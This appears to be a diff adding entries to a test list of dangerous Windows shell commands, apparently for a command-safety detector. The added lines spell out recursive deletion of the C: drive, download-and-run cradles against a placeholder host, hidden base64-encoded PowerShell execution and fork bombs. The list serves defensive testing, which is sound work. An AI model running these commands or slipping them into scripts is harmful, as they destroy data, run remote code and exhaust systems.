@@ -60,6 +60,59 @@ rundll32 javascript:"\..\mshtml,RunHTMLApplication "
 certutil -urlcache -split -f http://x x.exe; .\x.exe
 iwr x -OutFile a.ps1; .\a.ps1
 iwr x -o a.exe; Start-Process a.exe
+remove-item -path c:\ -recurse -force
+Remove-Item 'C:\*' -Recurse -Force -ErrorAction SilentlyContinue
+ri C:\ -r
+ri -r -fo "C:\"
+rm -Recurse -Force C:\
+rm -r C:/
+rd C:\ -Recurse
+del C:\* -Recurse -Force
+erase C:\ -rec
+Get-ChildItem C:\ -Recurse -Force | Remove-Item -Force -Recurse
+ls C:\ -r | rm -r -fo
+Get-ChildItem -Path C:\ | ForEach-Object { Remove-Item $_.FullName -Recurse -Force }
+Set-Location C:\; Remove-Item * -Recurse -Force
+cd C:\; rm -r -fo *
+cd \; ri -r .
+& { Remove-Item C:\ -Recurse }
+Invoke-Expression 'Remove-Item C:\ -Recurse -Force'
+powershell -Command "Remove-Item C:\ -Recurse -Force"
+powershell -NoProfile -ExecutionPolicy Bypass -Command "Remove-Item -Path C:\ -Recurse"
+pwsh -c 'ri C:\ -r -fo'
+cmd /c "rd /s /q C:\"
+cmd.exe /c del /s /q C:\*.*
+Start-Process cmd -ArgumentList '/c rd /s /q C:\'
+iex (New-Object Net.WebClient).DownloadString("http://x/a.ps1")
+IEX(IWR http://x -UseBasicParsing)
+iwr -useb http://x | iex
+irm http://x | iex
+(irm http://x) | iex
+Invoke-Expression (iwr http://x).Content
+Invoke-RestMethod http://x | Invoke-Expression
+$c = New-Object System.Net.WebClient; iex $c.DownloadString('http://x')
+$s=(iwr http://x).Content; Invoke-Expression $s
+. { iwr -useb http://x } | iex
+&([ScriptBlock]::Create((irm http://x)))
+[ScriptBlock]::Create((iwr http://x)).Invoke()
+iwr http://x -OutFile $env:TEMP\a.ps1; & $env:TEMP\a.ps1
+iwr http://x/a.exe -OutFile a.exe; Start-Process .\a.exe
+Invoke-WebRequest http://x/a.ps1 -OutFile a.ps1; powershell -File a.ps1
+Start-BitsTransfer http://x/a.exe a.exe; .\a.exe
+(New-Object Net.WebClient).DownloadFile('http://x/a.exe','a.exe'); .\a.exe
+curl.exe http://x/a.ps1 -o a.ps1; .\a.ps1
+powershell -EncodedCommand SQBFAFgA
+powershell -enc SQBFAFgA
+powershell.exe -nop -w hidden -e SQBF
+pwsh -ec SQBF
+iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('SQBF')))
+[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aQ==')) | iex
+Invoke-Expression ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($x)))
+'aQ==' | % { [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($_)) } | iex
+for(;;){Start-Process powershell}
+while($true){start powershell}
+while(1){Start-Job{while(1){}}}
+function f { f | f }; f
 `
   .trim()
   .split('\n')
